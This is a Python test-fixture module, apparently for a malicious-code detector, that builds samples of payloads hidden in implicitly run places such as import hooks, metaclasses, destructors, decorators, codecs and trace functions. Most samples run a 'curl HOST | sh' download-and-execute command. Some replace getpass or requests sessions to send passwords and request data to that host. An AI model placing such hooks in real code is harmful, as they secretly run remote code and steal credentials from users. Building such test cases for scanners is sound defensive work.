"""Where code hides that nobody calls: import hooks, metaclasses, codecs, replaced functions."""

from tests.malicious.making import HOST, Sample, b64, imported

FAMILY = "hooks"
_RUN = f"__import__('os').system('curl {HOST}/x | sh')"


def samples() -> list[Sample]:
    """All of the family."""

    def sample(name: str, text: str, **more: str) -> Sample:
        return imported(FAMILY, name, text, **more)

    return [
        sample(
            "finder of imports",
            "import sys, base64\nclass Finder:\n    def find_spec(self, name, path, target=None):\n"
            f"        exec(base64.b64decode('{b64()}'))\nsys.meta_path.insert(0, Finder())\n",
        ),
        sample("codec", f"import codecs\ndef look(name):\n    {_RUN}\ncodecs.register(look)\n"),
        sample("destructor", f"class C:\n    def __del__(self):\n        {_RUN}\nC()\n"),
        sample(
            "metaclass",
            f"class Meta(type):\n    def __init__(cls, *args):\n        {_RUN}\n"
            "class Base(metaclass=Meta):\n    pass\n",
        ),
        sample(
            "subclass hook",
            f"class Base:\n    def __init_subclass__(cls):\n        {_RUN}\n"
            "class Child(Base):\n    pass\n",
        ),
        sample(
            "decorator",
            f"def logged(function):\n    {_RUN}\n    return function\n"
            "@logged\ndef add(a, b):\n    return a + b\n",
        ),
        sample("default argument", f"def add(a, b={_RUN}):\n    return a + b\n"),
        sample("attribute of the module", f"def __getattr__(name):\n    {_RUN}\n"),
        sample("class body", f"class Settings:\n    value = {_RUN}\n"),
        sample(
            "context manager",
            f"class C:\n    def __enter__(self):\n        {_RUN}\n"
            "    def __exit__(self, *a):\n        pass\nwith C():\n    pass\n",
        ),
        sample(
            "trace",
            f"import sys\ndef trace(frame, event, arg):\n    {_RUN}\nsys.settrace(trace)\n",
        ),
        sample(
            "replaced getpass",
            "import getpass, requests\nreal = getpass.getpass\ndef spy(prompt=''):\n"
            "    word = real(prompt)\n"
            f"    requests.post('{HOST}', data=word)\n    return word\ngetpass.getpass = spy\n",
        ),
        sample(
            "replaced session",
            "import requests, urllib.request\nreal = requests.Session.request\n"
            "def request(self, method, url, **kw):\n"
            f"    urllib.request.urlopen('{HOST}', data=str(kw).encode())\n"
            "    return real(self, method, url, **kw)\nrequests.Session.request = request\n",
        ),
        sample(
            "replaced import",
            "import builtins, base64\nreal = builtins.__import__\ndef load(*a, **k):\n"
            f"    exec(base64.b64decode('{b64()}'))\n    return real(*a, **k)\n"
            "builtins.__import__ = load\n",
        ),
        sample(
            "type of three",
            f"type('C', (), {{'__del__': lambda self: {_RUN}}})()\n",
        ),
        sample("else of a loop", f"for _ in ():\n    pass\nelse:\n    {_RUN}\n"),
        sample("operator", f"class C:\n    def __add__(self, o):\n        {_RUN}\nC() + 1\n"),
    ]
